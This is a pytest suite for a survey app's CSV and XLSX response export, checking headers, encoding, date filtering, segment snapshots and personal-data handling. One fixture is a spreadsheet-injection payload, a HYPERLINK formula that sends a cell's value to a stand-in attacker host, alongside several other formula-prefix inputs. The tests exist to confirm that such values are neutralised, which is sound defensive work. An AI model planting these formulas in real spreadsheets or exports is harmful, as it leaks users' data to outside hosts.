"""Response exports: every stored answer comes out as it went in, one row per response, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook

from app.services.definitions import current_version
from app.services.export import (
    ExportCriteria,
    ExportError,
    csv_chunks,
    download_name,
    export_rows,
    plan_export,
    write_xlsx,
)
from app.services.journey import current_journey
from app.services.responses import ResponseMeta, record_response
from app.services.segments import snapshot_segments
from tests.factories import MINIMAL_SURVEY, load_surveys, make_customer, make_survey_dir
from touchloop.answers import GapAnswer

FIXED = ["response_id", "submitted_at", "survey", "version", "touchpoint", "channel", "language"]
SEGMENTS = ["segment.tier", "segment.lifecycle", "segment.region", "segment.industry", "segment.years_as_customer"]
QUESTIONS = ["recommend", "punctuality.expected", "punctuality.experience", "punctuality.gap", "why", "topics"]
HEADERS = FIXED + ["customer_external_id"] + SEGMENTS + QUESTIONS
VERBATIM = 'Late, "very" late,\n然后没有打电话。'
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def answer(session, answers, *, at, customer=None, language="en", channel="web", slug="mini"):
    """A committed response to the newest version of ``slug`` at ``at``, with the customer's segment snapshot."""
    meta = ResponseMeta(uuid.uuid4().hex, language, channel, customer_id=customer.id if customer else None)
    response = record_response(session, current_version(session, slug), answers, meta)
    response.submitted_at = at
    if customer is not None:
        snapshot_segments(session, response.id, customer, current_journey(session), at)
    session.commit()
    return response


def seed(session, tmp_path) -> dict:
    """The mini survey with four responses: a gap, multiple choices, verbatim text, formula payloads."""
    load_surveys(session, make_survey_dir(tmp_path, {"mini.yaml": MINIMAL_SURVEY}))
    wang = make_customer(
        session,
        external_id="C-王-1",
        name="王芳",
        email="wang@example.com",
        tier="A",
        lifecycle="mature",
        region="north",
        industry="office",
        customer_since=date(2019, 5, 1),
    )
    bo = make_customer(
        session,
        external_id="C-2",
        name="Bo",
        tier="C",
        lifecycle="new",
        region="south",
        industry="retail",
        customer_since=date(2025, 12, 1),
    )
    first = answer(
        session,
        {"recommend": 3, "punctuality": GapAnswer(6, 4), "why": VERBATIM, "topics": ["care", "price"]},
        at=datetime(2026, 1, 5, 8, 30, 15, 123456, tzinfo=timezone.utc),
        customer=wang,
        language="zh",
    )
    second = answer(
        session,
        {"recommend": 10, "punctuality": GapAnswer(3, 7), "why": HYPERLINK, "topics": ["speed"]},
        at=datetime(2026, 1, 31, 23, 59, 59, tzinfo=timezone.utc),
        channel="qr-store-12",
    )
    third = answer(
        session, {"recommend": 6, "why": "@SUM(1)"}, at=datetime(2026, 2, 1, tzinfo=timezone.utc), customer=bo
    )
    fourth = answer(session, {"recommend": 5, "why": "-2"}, at=datetime(2025, 12, 31, 23, 0, tzinfo=timezone.utc))
    return {"wang": wang, "bo": bo, "responses": [first, second, third, fourth]}


def export_csv(session, criteria: ExportCriteria, **options) -> bytes:
    """The CSV export's bytes."""
    plan = plan_export(session, criteria, current_journey(session))
    return b"".join(csv_chunks(plan, export_rows(session, plan, **options.pop("rows", {})), **options))


def read_csv(data: bytes) -> list[dict[str, str]]:
    """The CSV's rows as dicts by header (BOM dropped), checking the header order first."""
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert reader.fieldnames is not None
    return list(reader)


def test_csv_has_one_row_per_response_with_what_was_stored(session, tmp_path):
    seeded = seed(session, tmp_path)
    data = export_csv(session, ExportCriteria("mini"))
    rows = read_csv(data)
    assert list(rows[0]) == HEADERS
    first, second, third, fourth = seeded["responses"]
    assert rows[0] == {
        "response_id": str(first.id),
        "submitted_at": "2026-01-05T08:30:15Z",
        "survey": "mini",
        "version": "1",
        "touchpoint": "installation",
        "channel": "web",
        "language": "zh",
        "customer_external_id": "C-王-1",
        "segment.tier": "A",
        "segment.lifecycle": "mature",
        "segment.region": "north",
        "segment.industry": "office",
        "segment.years_as_customer": "over_5",
        "recommend": "3",
        "punctuality.expected": "6",
        "punctuality.experience": "4",
        "punctuality.gap": "-2",
        "why": VERBATIM,
        "topics": "price;care",  # the options' order, not the order ticked
    }
    assert rows[1]["customer_external_id"] == "" and rows[1]["segment.tier"] == ""
    assert [rows[1][h] for h in ("channel", "punctuality.gap", "why", "topics")] == [
        "qr-store-12",
        "4",
        "'" + HYPERLINK,
        "speed",
    ]
    assert [rows[2][h] for h in ("segment.tier", "punctuality.gap", "why", "topics")] == ["C", "", "'@SUM(1)", ""]
    assert [row["response_id"] for row in rows] == [str(r.id) for r in (first, second, third, fourth)]


def test_csv_is_utf8_with_a_bom_and_crlf_line_ends(session, tmp_path):
    seed(session, tmp_path)
    data = export_csv(session, ExportCriteria("mini"))
    assert data.startswith(b"\xef\xbb\xbfresponse_id,submitted_at,")
    assert data.count(b"\r\n") == 5  # the header and four rows; the line break inside a text stays "\n"
    assert '"Late, ""very"" late,\n然后没有打电话。"'.encode() in data


def test_formula_payloads_are_quoted_in_csv_while_numbers_stay_numbers(session, tmp_path):
    seed(session, tmp_path)
    text = export_csv(session, ExportCriteria("mini")).decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in text
    assert ",'@SUM(1)," in text and ",'-2," in text  # text answers "@SUM(1)" and "-2"
    assert ",6,4,-2," in text  # the gap of -2 is a number
    assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("1-2", "1-2"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_only_text_starting_like_a_formula_gets_a_quote(session, tmp_path, text, safe):
    load_surveys(session, make_survey_dir(tmp_path, {"mini.yaml": MINIMAL_SURVEY}))
    plan = plan_export(session, ExportCriteria("mini"), current_journey(session))
    cells = dict.fromkeys(HEADERS, None) | {"submitted_at": "2026-01-01T00:00:00Z", "why": text, "channel": text}
    row = read_csv(b"".join(csv_chunks(plan, [list(cells.values())])))[0]
    assert (row["why"], row["channel"]) == (safe, safe)


def test_xlsx_holds_the_same_cells_and_formula_payloads_as_plain_strings(session, tmp_path):
    seeded = seed(session, tmp_path)
    plan = plan_export(session, ExportCriteria("mini"), current_journey(session))
    target = io.BytesIO()
    assert write_xlsx(plan, export_rows(session, plan), target) == 4
    sheet = load_workbook(io.BytesIO(target.getvalue())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    first = dict(zip(HEADERS, rows[1]))
    assert first["response_id"] == seeded["responses"][0].id
    assert first["submitted_at"] == datetime(2026, 1, 5, 8, 30, 15)
    assert (first["punctuality.gap"], first["why"], first["topics"]) == (-2, VERBATIM, "price;care")
    cells = {HEADERS[cell.column - 1]: cell for cell in sheet[3]}
    assert cells["why"].value == HYPERLINK and cells["why"].data_type == "s"
    assert sheet[4][HEADERS.index("why")].value == "@SUM(1)"
    assert sheet[5][HEADERS.index("why")].value == "-2" and sheet[5][HEADERS.index("why")].data_type == "s"
    assert cells["punctuality.gap"].value == 4 and cells["punctuality.gap"].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(target.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # not a single formula in the sheet


def test_segments_are_the_snapshot_taken_when_the_customer_answered(session, tmp_path):
    seeded = seed(session, tmp_path)
    seeded["wang"].tier = "C"
    seeded["wang"].region = "west"
    session.commit()
    rows = read_csv(export_csv(session, ExportCriteria("mini")))
    assert (rows[0]["segment.tier"], rows[0]["segment.region"]) == ("A", "north")


def test_a_period_holds_whole_utc_days_at_both_ends(session, tmp_path):
    seeded = seed(session, tmp_path)
    first, second, third, fourth = seeded["responses"]
    january = read_csv(export_csv(session, ExportCriteria("mini", date(2026, 1, 1), date(2026, 1, 31))))
    assert [row["response_id"] for row in january] == [str(first.id), str(second.id)]
    since = read_csv(export_csv(session, ExportCriteria("mini", start=date(2026, 1, 6))))
    assert [row["response_id"] for row in since] == [str(second.id), str(third.id)]
    until = read_csv(export_csv(session, ExportCriteria("mini", end=date(2025, 12, 31))))
    assert [row["response_id"] for row in until] == [str(fourth.id)]
    assert read_csv(export_csv(session, ExportCriteria("mini", date(2027, 1, 1)))) == []


def test_only_the_chosen_surveys_responses_are_exported(session, tmp_path):
    seed(session, tmp_path)
    load_surveys(
        session, make_survey_dir(tmp_path, {"other.yaml": MINIMAL_SURVEY.replace("slug: mini", "slug: other")})
    )
    other = answer(
        session, {"recommend": 9, "why": "other"}, at=datetime(2026, 1, 10, tzinfo=timezone.utc), slug="other"
    )
    last = answer(session, {"recommend": 1}, at=datetime(2026, 1, 11, tzinfo=timezone.utc))
    rows = read_csv(export_csv(session, ExportCriteria("mini")))
    assert len(rows) == 5 and rows[-1]["response_id"] == str(last.id)
    assert {row["survey"] for row in rows} == {"mini"} and "other" not in [row["why"] for row in rows]
    assert [(row["response_id"], row["why"]) for row in read_csv(export_csv(session, ExportCriteria("other")))] == [
        (str(other.id), "other")
    ]


def test_every_versions_questions_have_columns(session, tmp_path):
    folder = make_survey_dir(tmp_path, {"mini.yaml": MINIMAL_SURVEY})
    load_surveys(session, folder)
    old = answer(session, {"recommend": 8, "why": "fine"}, at=datetime(2026, 1, 1, tzinfo=timezone.utc))
    changed = MINIMAL_SURVEY.replace("  - id: why\n", "  - id: comment\n")
    (folder / "mini.yaml").write_text(changed, encoding="utf-8")
    load_surveys(session, folder)
    new = answer(session, {"recommend": 2, "comment": "bad"}, at=datetime(2026, 1, 2, tzinfo=timezone.utc))
    rows = read_csv(export_csv(session, ExportCriteria("mini")))
    assert list(rows[0])[-7:] == [
        "recommend",
        "punctuality.expected",
        "punctuality.experience",
        "punctuality.gap",
        "comment",
        "topics",
        "why",
    ]  # the newest version's order, then older keys
    assert [(r["response_id"], r["version"], r["comment"], r["why"]) for r in rows] == [
        (str(old.id), "1", "", "fine"),
        (str(new.id), "2", "bad", ""),
    ]


def test_a_question_whose_type_changed_keeps_one_column(session, tmp_path):
    folder = make_survey_dir(tmp_path, {"mini.yaml": MINIMAL_SURVEY})
    load_surveys(session, folder)
    answer(session, {"recommend": 8, "why": "words"}, at=datetime(2026, 1, 1, tzinfo=timezone.utc))
    rated = MINIMAL_SURVEY.replace("    type: text\n", "    type: csat\n")
    (folder / "mini.yaml").write_text(rated, encoding="utf-8")
    load_surveys(session, folder)
    answer(session, {"recommend": 8, "why": 4}, at=datetime(2026, 1, 2, tzinfo=timezone.utc))
    rows = read_csv(export_csv(session, ExportCriteria("mini")))
    assert [row["why"] for row in rows] == ["words", "4"]


def test_a_question_named_like_a_fixed_column_gets_a_prefix(session, tmp_path):
    survey = MINIMAL_SURVEY.replace("slug: mini", "slug: clash").replace("  - id: why\n", "  - id: channel\n")
    load_surveys(session, make_survey_dir(tmp_path, {"clash.yaml": survey}))
    answer(
        session, {"recommend": 1, "channel": "the phone"}, at=datetime(2026, 1, 1, tzinfo=timezone.utc), slug="clash"
    )
    rows = read_csv(export_csv(session, ExportCriteria("clash")))
    assert (rows[0]["channel"], rows[0]["question.channel"]) == ("web", "the phone")


def test_personal_data_is_left_out_unless_asked_for(session, tmp_path):
    seed(session, tmp_path)
    plain = read_csv(export_csv(session, ExportCriteria("mini")))
    assert not {"customer_name", "customer_email", "customer_phone"} & set(plain[0])
    assert "王芳" not in str(plain) and "wang@example.com" not in str(plain)
    personal = read_csv(export_csv(session, ExportCriteria("mini", personal=True)))
    assert list(personal[0])[7:11] == ["customer_external_id", "customer_name", "customer_email", "customer_phone"]
    assert (personal[0]["customer_name"], personal[0]["customer_email"]) == ("王芳", "wang@example.com")


def test_small_batches_and_chunks_give_the_same_file(session, tmp_path):
    seed(session, tmp_path)
    whole = export_csv(session, ExportCriteria("mini"))
    plan = plan_export(session, ExportCriteria("mini"), current_journey(session))
    chunks = list(csv_chunks(plan, export_rows(session, plan, batch_rows=1), chunk_rows=1))
    assert len(chunks) == 5 and b"".join(chunks) == whole  # a chunk per row, then the (empty) rest


def test_an_unknown_survey_or_a_reversed_period_is_refused(session, tmp_path):
    seed(session, tmp_path)
    with pytest.raises(ExportError, match="no survey 'nope'"):
        plan_export(session, ExportCriteria("nope"), current_journey(session))
    with pytest.raises(ExportError, match="starts"):
        plan_export(session, ExportCriteria("mini", date(2026, 2, 1), date(2026, 1, 1)), current_journey(session))


def test_the_file_name_names_the_survey_and_the_period(session, tmp_path):
    seed(session, tmp_path)
    journey = current_journey(session)
    plan = plan_export(session, ExportCriteria("mini", date(2026, 1, 1), date(2026, 1, 31)), journey)
    assert download_name(plan, "csv") == "responses-mini-2026-01-01-to-2026-01-31.csv"
    assert download_name(plan_export(session, ExportCriteria("mini"), journey), "xlsx") == "responses-mini.xlsx"
    assert download_name(plan_export(session, ExportCriteria("mini", date(2026, 1, 1)), journey), "csv") == (
        "responses-mini-2026-01-01-to-now.csv"
    )


def test_an_export_stopped_halfway_leaves_the_connection_usable(session, tmp_path):
    seed(session, tmp_path)
    plan = plan_export(session, ExportCriteria("mini"), current_journey(session))
    rows = export_rows(session, plan, batch_rows=1)
    first = next(rows)
    rows.close()  # as when a browser drops a download: the request then ends with a rollback
    session.rollback()
    assert [row["response_id"] for row in read_csv(export_csv(session, ExportCriteria("mini")))][0] == str(first[0])


def test_a_response_arriving_while_the_file_is_written_stays_out_of_it(session, tmp_path):
    seed(session, tmp_path)
    plan = plan_export(session, ExportCriteria("mini"), current_journey(session))
    answer(session, {"recommend": 1, "why": "just now"}, at=datetime(2026, 1, 20, tzinfo=timezone.utc))
    rows = read_csv(b"".join(csv_chunks(plan, export_rows(session, plan))))
    assert len(rows) == 4 and "just now" not in [row["why"] for row in rows]


def test_without_a_journey_there_are_no_segment_columns(session, tmp_path):
    seed(session, tmp_path)
    plan = plan_export(session, ExportCriteria("mini"), None)
    rows = read_csv(b"".join(csv_chunks(plan, export_rows(session, plan))))
    assert list(rows[0]) == FIXED + ["customer_external_id"] + QUESTIONS and rows[0]["punctuality.gap"] == "-2"
